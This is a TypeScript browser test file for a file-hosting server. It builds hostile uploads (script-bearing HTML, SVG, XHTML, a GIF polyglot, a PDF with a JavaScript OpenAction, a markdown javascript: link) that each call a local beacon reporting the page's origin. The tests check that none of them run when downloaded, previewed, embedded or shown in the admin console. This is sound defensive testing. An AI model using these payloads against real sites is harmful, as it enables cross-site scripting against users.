import { createServer } from "node:http";
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { describeInBrowser, openBrowser } from "../support/browser.js";
import { startServer } from "../support/start-server.js";
import type { Person, TestServer } from "../support/start-server.js";

/** A page that the test itself provides counts as coming from outside, and may not call this machine. */
const MAY_CALL_THIS_MACHINE =
  "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights";
const SHOWN_IN_CONSOLE = ["page.html", "page.pdf", "drawing.svg", "notes.md"];

/** What a hostile file tries: to say where it runs, and to read what is this origin's. */
const call = (beacon: string) => `new Image().src=${JSON.stringify(`${beacon}/ran?`)}+location.origin`;

/** Files that a browser would run, if it could be talked into it. */
function hostileFiles(beacon: string): [name: string, type: string, bytes: Buffer][] {
  const script = `<script>${call(beacon)}</script><img src=x onerror='${call(beacon)}'><img src="${beacon}/fetched">`;
  const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`);
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload='${call(beacon)}'><script>${call(beacon)}</script></svg>`,
  );
  const xml = Buffer.from(
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${call(beacon)}</script></html>`,
  );
  const gif = Buffer.concat([Buffer.from("GIF89a/*"), html, Buffer.from(`*/=1;${call(beacon)}`)]);
  const pdf = Buffer.from(
    `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL("${beacon}/ran"))>>>>endobj\n${script}`,
  );
  return [
    ["page.html", "text/html", html],
    ["page.txt", "text/plain", html],
    ["page.png", "image/png", html],
    ["page.mp4", "video/mp4", html],
    ["page.pdf", "application/pdf", html],
    ["nameless", "application/octet-stream", html],
    ["drawing.svg", "image/svg+xml", svg],
    ["drawing.png", "image/png", svg],
    ["page.xhtml", "application/xhtml+xml", xml],
    ["page.xml", "text/xml", xml],
    ["polyglot.gif", "image/gif", gif],
    ["polyglot.pdf", "application/pdf", pdf],
    ["script.js", "text/javascript", Buffer.from(call(beacon))],
    [
      "notes.md",
      "text/markdown",
      Buffer.from(`# Title\n\n${script}\n\n[link](javascript:${encodeURI(call(beacon))})\n`),
    ],
  ];
}

describeInBrowser("active content", { timeout: 180_000 }, () => {
  let t: TestServer;
  let owner: Person;
  let browser: Browser;
  let listener: Server;
  let beacon: string;
  const heard: string[] = [];

  beforeAll(async () => {
    listener = createServer((request, response) => {
      heard.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done));
    beacon = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    t = await startServer();
    owner = await t.administrator();
    browser = await openBrowser(MAY_CALL_THIS_MACHINE);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await t?.close();
    listener?.close();
  });

  it("runs nowhere, by whichever link it is opened, framed or loaded", async () => {
    const page = await browser.newPage();
    // A page of this origin without a policy of its own: whatever the file's own headers allow can happen here.
    const bare = `${t.url}/bare`;
    await page.route(bare, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html>" }));
    const links: string[] = [];
    for (const [fileName, type, bytes] of hostileFiles(beacon)) {
      const { id } = await put(fileName, type, bytes);
      const { downloadUrl } = (await owner.file({ id })).file;
      const { url } = (await owner.preview({ id })).file.preview;
      links.push(downloadUrl, `${downloadUrl}&inline=1`, ...(url == null ? [] : [url]));
    }

    // What is saved and not shown ends the visit with an error of its own.
    for (const link of links) await page.goto(link).catch(() => null);
    await page.goto(bare);
    for (const link of links) await page.evaluate(embed(link));
    await page.evaluate(ALL_SETTLED);

    expect(heard).toEqual([]);
    expect(links.length).toBeGreaterThan(35);
    // The listener hears what does run there, or this test would prove nothing.
    await page.evaluate(call(beacon));
    await expect.poll(() => heard.length, { timeout: 10_000 }).toBe(1);
    heard.length = 0;
    await page.close();
  });

  it("runs nowhere in the console, which shows it as text", async () => {
    const page = await browser.newPage();
    await page.goto(`${t.url}/admin`);
    await page.getByLabel("E-mail or user name").fill(t.admin.email);
    await page.getByLabel(/^Password/).fill(t.admin.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { name: "Dashboard" }).waitFor();
    const shown = hostileFiles(beacon).filter(([fileName]) => SHOWN_IN_CONSOLE.includes(fileName));
    for (const [fileName, type, bytes] of shown) {
      const { id, name } = await put(fileName, type, bytes);
      await page.goto(`${t.url}/admin/files/${id}/show`);
      await page.getByRole("heading", { name }).waitFor();
      const preview = page.getByRole("region", { name: "Preview" });
      await preview.getByText(call(beacon)).or(preview.locator("iframe")).first().waitFor();
      for (const frame of page.frames()) await frame.waitForLoadState();
      if (fileName === "notes.md") {
        await page.getByRole("heading", { name: "Title" }).waitFor();
        expect(await page.locator("a[href^=javascript]").count()).toBe(0);
      }
    }

    await page.goto("about:blank");
    await page.evaluate(call(beacon));
    await expect.poll(() => heard.length, { timeout: 10_000 }).toBeGreaterThan(0);
    expect(heard).toEqual(["/ran?null"]);
    heard.length = 0;
    await page.close();
  });

  async function put(fileName: string, type: string, bytes: Buffer): Promise<{ id: string; name: string }> {
    const response = await fetch(`${t.url}/files?name=${encodeURIComponent(fileName)}`, {
      method: "PUT",
      headers: { authorization: `Bearer ${owner.accessToken}`, "content-type": type },
      body: new Uint8Array(bytes),
    });
    return (await response.json()) as { id: string; name: string };
  }
});

/** In the page: the ways in which a site of this origin could bring a file in and have it run. */
function embed(link: string): string {
  return `for (const tag of ["script", "img", "iframe"]) {
    const element = document.createElement(tag);
    const ended = new Promise((done) => {
      element.onload = element.onerror = done;
      setTimeout(done, 1000);
    });
    window.pending = [...(window.pending ?? []), ended];
    element.src = ${JSON.stringify(link)};
    document.body.append(element);
  }`;
}

/** In the page: waits until everything embedded has loaded, failed, or been saved instead. */
const ALL_SETTLED = "Promise.all(window.pending).then(() => undefined)";
